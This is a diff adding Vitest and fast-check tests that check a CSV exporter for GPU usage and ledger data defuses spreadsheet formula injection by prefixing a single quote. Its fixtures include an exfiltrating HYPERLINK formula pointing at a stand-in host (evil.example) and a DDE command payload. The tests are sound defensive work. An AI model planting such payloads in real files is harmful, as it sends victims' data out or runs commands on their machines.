@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvField, csvRecord } from '#exports/domain/csv.ts';
 import { usageEncoder, ledgerEncoder } from '#exports/domain/encode.ts';
@@ -127,5 +128,47 @@ describe('JSON Lines', () => {
     const entry: LedgerRow = { transactionId: 'txn_1', entryId: 'ent_1', postedAt: '2025-03-10T10:30:01.000Z', accountId: 'acct_renter', kind: 'usage_charge', amount: -450_000, reference: 'use_1' };
     expect(JSON.parse(ledgerEncoder('jsonl').page([entry]))).toMatchObject({ amount: '-0.450000', reference: 'use_1' });
     expect(ledgerEncoder('csv').page([entry])).toBe('txn_1,ent_1,2025-03-10T10:30:01.000Z,acct_renter,usage_charge,-0.450000,use_1\r\n');
+  });
+});
+
+describe('formula injection (OWASP CSV injection)', () => {
+  /** What a spreadsheet evaluates: a cell starting = + - @ tab or CR that is not a plain number. */
+  const isLiveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")', `"'=HYPERLINK(""http://evil.example/?x=""&B2,""RTX 4090"")"`],
+    ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1', `'\t=1`],
+    ['\r=1', `"'\r=1"`],
+  ])('writes %j with a single quote in front', (value, written) => {
+    expect(csvField(value)).toBe(written);
+  });
+
+  it.each([['-0.450000'], ['-12'], ['+3.5'], ['0.450000'], ['RTX 4090'], ['a=b'], ["'=already text"]])('leaves %j as it is', (value) => {
+    expect(csvField(value)).toBe(value);
+  });
+
+  it('reads back, for any text, as the text itself or, if it would start a formula, as the text after one single quote', () => {
+    fc.assert(
+      fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((head) => fc.string().map((tail) => head + tail))), { minLength: 1, maxLength: 6 }), (fields) => {
+        const [cells = []] = parseCsv(csvRecord(fields));
+        expect(cells).toHaveLength(fields.length);
+        cells.forEach((cell, index) => {
+          expect(isLiveFormula(cell)).toBe(false);
+          expect(cell === fields[index] || cell === `'${fields[index]}`).toBe(true);
+        });
+      }),
+    );
+  });
+
+  it('defuses a hostile GPU name in the usage CSV and keeps signed ledger amounts as numbers', () => {
+    const [usage] = parseCsv(usageEncoder('csv').page([usageRow({ gpuModel: '=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")' })]));
+    const entry: LedgerRow = { transactionId: 'txn_1', entryId: 'ent_1', postedAt: '2025-03-10T10:30:01.000Z', accountId: 'acct_renter', kind: 'credit', amount: -450_000, reference: '@SUM(1+1)' };
+    const [ledger] = parseCsv(ledgerEncoder('csv').page([entry]));
+
+    expect(usage?.[6]).toBe(`'=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")`);
+    expect([ledger?.[5], ledger?.[6]]).toEqual(['-0.450000', "'@SUM(1+1)"]);
   });
 });
